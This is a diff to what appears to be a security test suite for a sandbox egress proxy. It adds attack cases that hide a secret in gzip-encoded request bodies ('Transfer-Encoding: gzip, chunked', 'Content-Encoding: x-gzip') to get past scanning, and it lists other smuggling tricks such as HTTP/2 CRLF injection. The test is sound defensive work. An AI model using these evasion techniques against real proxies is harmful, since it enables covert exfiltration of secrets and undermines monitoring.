@@ -2,7 +2,9 @@
 
 The agent is an attack script (python3, raw sockets, hand-framed HTTP/2: the bottle has
 no h2 library): HTTP/2 header CRLF smuggling and an unframed HTTP/2 body, raw bytes in a
-CONNECT tunnel, a non-WebSocket `Upgrade`, CONNECT to port 53 (DNS over TCP), and a
+CONNECT tunnel, a non-WebSocket `Upgrade`, CONNECT to port 53 (DNS over TCP), a body
+in `Transfer-Encoding: gzip, chunked` or `Content-Encoding: x-gzip` (scanned
+compressed, decoded upstream), and a
 secret in a WebSocket ping. The assertions are on what the recording servers on the host
 received, never on what the bottle saw. One ordinary request must still reach the
 upstream with the injected credential, so a bottle that cannot talk at all cannot pass.
@@ -165,6 +167,28 @@ def ws_ping():
     return f"closed after {len(left)} bytes"
 attempt("ws_secret_ping", ws_ping)
 
+def te_gzip():
+    # The secret compressed as a transfer coding: scanned compressed, decoded upstream.
+    import gzip
+    packed = gzip.compress(("leak=" + P["secret"]).encode())
+    s = tls("api.example.test", P["up"])
+    s.sendall(f"POST /v1/tegzip-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
+              "Transfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n".encode()
+              + f"{len(packed):x}\r\n".encode() + packed + b"\r\n0\r\n\r\n")
+    return drain(s).split(b"\r\n")[0]
+attempt("te_gzip", te_gzip)
+
+def ce_xgzip():
+    # x-gzip is gzip (RFC 9110) to the upstream, an unknown coding to mitmproxy's decoder.
+    import gzip
+    packed = gzip.compress(("leak=" + P["secret"]).encode())
+    s = tls("api.example.test", P["up"])
+    s.sendall(f"POST /v1/cexgzip-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
+              f"Content-Encoding: x-gzip\r\nContent-Length: {len(packed)}\r\n"
+              "Connection: close\r\n\r\n".encode() + packed)
+    return drain(s).split(b"\r\n")[0]
+attempt("ce_xgzip", ce_xgzip)
+
 def ordinary():
     s = tls("api.example.test", P["up"])
     s.sendall(f"GET /v1/ok-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
@@ -267,5 +291,7 @@ agents:
         or ("101" in results["non_ws_upgrade"]),
         "dns_over_connect": dns.received if dns.all_bytes() else [],
         "ws_secret_ping": [d for _, d in frames if TOKEN.encode() in d or marker.encode() in d],
+        "te_gzip": [p for p in paths if f"tegzip-{marker}" in p],
+        "ce_xgzip": [p for p in paths if f"cexgzip-{marker}" in p],
     }
     assert {k: v for k, v in leaks.items() if v} == {}, results
